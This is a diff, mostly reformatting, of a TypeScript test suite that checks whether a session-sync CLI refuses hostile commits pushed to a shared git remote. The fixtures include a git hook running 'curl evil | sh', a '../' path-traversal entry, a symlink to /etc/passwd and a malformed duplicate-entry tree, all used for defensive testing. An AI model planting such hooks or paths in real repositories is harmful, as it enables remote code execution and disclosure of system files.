@@ -57,9 +57,7 @@ describe('remote notes', () => {
     expect(cli(['sync'], { cwd: victim, env }).status).toBe(0);
     expect(cli(['sync'], { cwd: mallory, env }).status).toBe(0);
     // Mallory's notes: the ones she fetched plus a submodule entry named like a note.
-    const notesTree = git(mallory, ['ls-tree', NOTES], env)
-      .split('\n')
-      .filter(Boolean);
+    const notesTree = git(mallory, ['ls-tree', NOTES], env).split('\n').filter(Boolean);
     notesTree.push(`160000 commit ${git(mallory, ['rev-parse', 'HEAD'], env)}\t${'ab'.repeat(20)}`);
     const evilTree = spawnSync('git', ['mktree'], { cwd: mallory, env, input: `${notesTree.join('\n')}\n`, encoding: 'utf8' }).stdout.trim();
     const evil = commit(mallory, env, evilTree, [git(mallory, ['rev-parse', NOTES], env)], { message: 'Notes added by git notes add\n' });
@@ -126,60 +124,69 @@ const HOSTILE: Record<string, { fsck?: boolean; entries: (dir: string, env: Node
   'a .. entry': { fsck: true, entries: () => ({ 'sessions/../evil': { text: 'x' } }) },
   'a .git entry': { fsck: true, entries: () => ({ '.git/hooks/post-checkout': { text: '#!/bin/sh\ncurl evil | sh\n' } }) },
   'a symlink': { entries: () => ({ [manifestPath('linked')]: { mode: '120000', text: '/etc/passwd' } }) },
-  'a gitlink': { entries: (dir, env) => ({ [`sessions/${manifestPath('sub').split('/')[1]}/sub`]: { mode: '160000', id: git(dir, ['rev-parse', 'HEAD'], env) } }) },
+  'a gitlink': {
+    entries: (dir, env) => ({ [`sessions/${manifestPath('sub').split('/')[1]}/sub`]: { mode: '160000', id: git(dir, ['rev-parse', 'HEAD'], env) } }),
+  },
   'a 100 MB blob': { entries: () => ({ [`sessions/${manifestPath('big').split('/')[1]}/big/trail/asks/0000.jsonl`]: { text: Buffer.alloc(100 << 20, 'x') } }) },
 };
 
 describe('a hostile commit on a remote', () => {
   for (const [what, { fsck, entries }] of Object.entries(HOSTILE)) {
-    it(`holding ${what} never becomes history: honest snapshots below it are kept, fsck stays clean, an fsck-checking remote accepts the push`, { timeout: 60_000 }, () => {
-      const { env, bare, clones } = clonesOfOneRemote('victim', 'alice', 'mallory');
-      const { victim, alice, mallory } = clones;
-      expect(cli(['save', '-t', SAMPLE], { cwd: victim, env }).status).toBe(0);
-      expect(cli(['sync'], { cwd: victim, env }).status).toBe(0);
-      // Alice saves twice on top of what the remote holds, with plain git.
-      const template = manifestTemplate(alice, env);
-      git(alice, ['fetch', '-q', 'origin', `+${SESSIONS}:${SESSIONS}`], env);
-      const snapshot = (parent: string, step: number) => commit(alice, env, tree(alice, env, { [manifestPath('alice-session')]: { text: manifestOf(template, 'alice-session', `step ${step}`) } }), [parent], { message: `session alice-se: step ${step}\n\nSession-Id: alice-session\n` });
-      const aliceLast = snapshot(snapshot(tipOf(alice, env)!, 1), 2);
-      pushRef(alice, env, SESSIONS, aliceLast);
-      // Mallory builds on it: a valid session of her own, and something sync refuses.
-      git(mallory, ['fetch', '-q', 'origin', `+${SESSIONS}:${SESSIONS}`], env);
-      const evilTree = tree(mallory, env, { [manifestPath('mallory-good')]: { text: manifestOf(template, 'mallory-good') }, ...entries(mallory, env) });
-      const evil = commit(mallory, env, evilTree, [aliceLast], { message: 'session mallory: x\n\nSession-Id: mallory-good\n' });
-      pushRef(mallory, env, SESSIONS, evil);
+    it(
+      `holding ${what} never becomes history: honest snapshots below it are kept, fsck stays clean, an fsck-checking remote accepts the push`,
+      { timeout: 60_000 },
+      () => {
+        const { env, bare, clones } = clonesOfOneRemote('victim', 'alice', 'mallory');
+        const { victim, alice, mallory } = clones;
+        expect(cli(['save', '-t', SAMPLE], { cwd: victim, env }).status).toBe(0);
+        expect(cli(['sync'], { cwd: victim, env }).status).toBe(0);
+        // Alice saves twice on top of what the remote holds, with plain git.
+        const template = manifestTemplate(alice, env);
+        git(alice, ['fetch', '-q', 'origin', `+${SESSIONS}:${SESSIONS}`], env);
+        const snapshot = (parent: string, step: number) =>
+          commit(alice, env, tree(alice, env, { [manifestPath('alice-session')]: { text: manifestOf(template, 'alice-session', `step ${step}`) } }), [parent], {
+            message: `session alice-se: step ${step}\n\nSession-Id: alice-session\n`,
+          });
+        const aliceLast = snapshot(snapshot(tipOf(alice, env)!, 1), 2);
+        pushRef(alice, env, SESSIONS, aliceLast);
+        // Mallory builds on it: a valid session of her own, and something sync refuses.
+        git(mallory, ['fetch', '-q', 'origin', `+${SESSIONS}:${SESSIONS}`], env);
+        const evilTree = tree(mallory, env, { [manifestPath('mallory-good')]: { text: manifestOf(template, 'mallory-good') }, ...entries(mallory, env) });
+        const evil = commit(mallory, env, evilTree, [aliceLast], { message: 'session mallory: x\n\nSession-Id: mallory-good\n' });
+        pushRef(mallory, env, SESSIONS, evil);
 
-      const r = cli(['sync', '--json'], { cwd: victim, env });
-      expect(r.status, r.stderr).toBe(0);
-      const report = JSON.parse(r.stdout);
-      expect(report.skipped.join('\n')).toContain(evil.slice(0, 10));
-      if (fsck) expect(report.skipped.join('\n')).toMatch(/git's fsck refused an object it sent/);
-      const tip = git(victim, ['rev-parse', SESSIONS], env);
-      expect(isAncestor(victim, env, evil, tip)).toBe(false);
-      expect(run(victim, env, ['cat-file', '-e', evil]).status).not.toBe(0);
-      // Alice's snapshots are history here, and her session and mallory's valid one are taken.
-      expect(isAncestor(victim, env, aliceLast, tip)).toBe(true);
-      const files = git(victim, ['ls-tree', '-r', '--name-only', tip], env).split('\n');
-      expect(files).toContain(manifestPath('alice-session'));
-      expect(files).toContain(manifestPath('mallory-good'));
-      expect(files.every((f) => /^sessions\/[0-9a-f]{2}\/[^/]+\/(manifest\.json|trail\/.*)$/.test(f))).toBe(true);
-      expect(fsckProblems(victim, env)).toBe('');
-      expect(readdirSync(join(victim, '.git', 'objects')).filter((n) => n.startsWith('tmp_'))).toEqual([]);
-      // The remote now holds the victim's clean history in place of mallory's commit.
-      expect(git(bare, ['rev-parse', SESSIONS], env)).toBe(tip);
-      const mirror = fsckingMirror(victim, env);
-      const pushed = run(victim, env, ['push', 'mirror', `${SESSIONS}:${SESSIONS}`, `${NOTES}:${NOTES}`]);
-      expect(pushed.status, pushed.stderr).toBe(0);
-      expect(git(mirror, ['rev-parse', SESSIONS], env)).toBe(tip);
-      // A second sync has nothing left to refuse.
-      const again = JSON.parse(cli(['sync', '--json'], { cwd: victim, env }).stdout);
-      expect(again).toMatchObject({ sessions: 'up to date', skipped: [] });
-    });
+        const r = cli(['sync', '--json'], { cwd: victim, env });
+        expect(r.status, r.stderr).toBe(0);
+        const report = JSON.parse(r.stdout);
+        expect(report.skipped.join('\n')).toContain(evil.slice(0, 10));
+        if (fsck) expect(report.skipped.join('\n')).toMatch(/git's fsck refused an object it sent/);
+        const tip = git(victim, ['rev-parse', SESSIONS], env);
+        expect(isAncestor(victim, env, evil, tip)).toBe(false);
+        expect(run(victim, env, ['cat-file', '-e', evil]).status).not.toBe(0);
+        // Alice's snapshots are history here, and her session and mallory's valid one are taken.
+        expect(isAncestor(victim, env, aliceLast, tip)).toBe(true);
+        const files = git(victim, ['ls-tree', '-r', '--name-only', tip], env).split('\n');
+        expect(files).toContain(manifestPath('alice-session'));
+        expect(files).toContain(manifestPath('mallory-good'));
+        expect(files.every((f) => /^sessions\/[0-9a-f]{2}\/[^/]+\/(manifest\.json|trail\/.*)$/.test(f))).toBe(true);
+        expect(fsckProblems(victim, env)).toBe('');
+        expect(readdirSync(join(victim, '.git', 'objects')).filter((n) => n.startsWith('tmp_'))).toEqual([]);
+        // The remote now holds the victim's clean history in place of mallory's commit.
+        expect(git(bare, ['rev-parse', SESSIONS], env)).toBe(tip);
+        const mirror = fsckingMirror(victim, env);
+        const pushed = run(victim, env, ['push', 'mirror', `${SESSIONS}:${SESSIONS}`, `${NOTES}:${NOTES}`]);
+        expect(pushed.status, pushed.stderr).toBe(0);
+        expect(git(mirror, ['rev-parse', SESSIONS], env)).toBe(tip);
+        // A second sync has nothing left to refuse.
+        const again = JSON.parse(cli(['sync', '--json'], { cwd: victim, env }).stdout);
+        expect(again).toMatchObject({ sessions: 'up to date', skipped: [] });
+      },
+    );
   }
 });
 
 describe('a commit git itself calls broken', () => {
-  it('(a tree with a duplicate entry, every path one a save writes) is refused by git\'s fsck and never becomes history', () => {
+  it("(a tree with a duplicate entry, every path one a save writes) is refused by git's fsck and never becomes history", () => {
     const { env, clones } = clonesOfOneRemote('victim', 'mallory');
     const { victim, mallory } = clones;
     expect(cli(['save', '-t', SAMPLE], { cwd: victim, env }).status).toBe(0);
@@ -187,7 +194,12 @@ describe('a commit git itself calls broken', () => {
     const text = manifestOf(manifestTemplate(mallory, env), 'dup');
     const id = Buffer.from(blob(mallory, env, text), 'hex');
     const entry = Buffer.concat([Buffer.from('100644 manifest.json\0'), id]);
-    const dup = spawnSync('git', ['hash-object', '-t', 'tree', '--literally', '-w', '--stdin'], { cwd: mallory, env, input: Buffer.concat([entry, entry]), encoding: 'utf8' }).stdout.trim();
+    const dup = spawnSync('git', ['hash-object', '-t', 'tree', '--literally', '-w', '--stdin'], {
+      cwd: mallory,
+      env,
+      input: Buffer.concat([entry, entry]),
+      encoding: 'utf8',
+    }).stdout.trim();
     const [, shard] = manifestPath('dup').split('/');
     const shardTree = spawnSync('git', ['mktree'], { cwd: mallory, env, input: `040000 tree ${dup}\tdup\n`, encoding: 'utf8' }).stdout.trim();
     const sessionsTree = spawnSync('git', ['mktree'], { cwd: mallory, env, input: `040000 tree ${shardTree}\t${shard}\n`, encoding: 'utf8' }).stdout.trim();
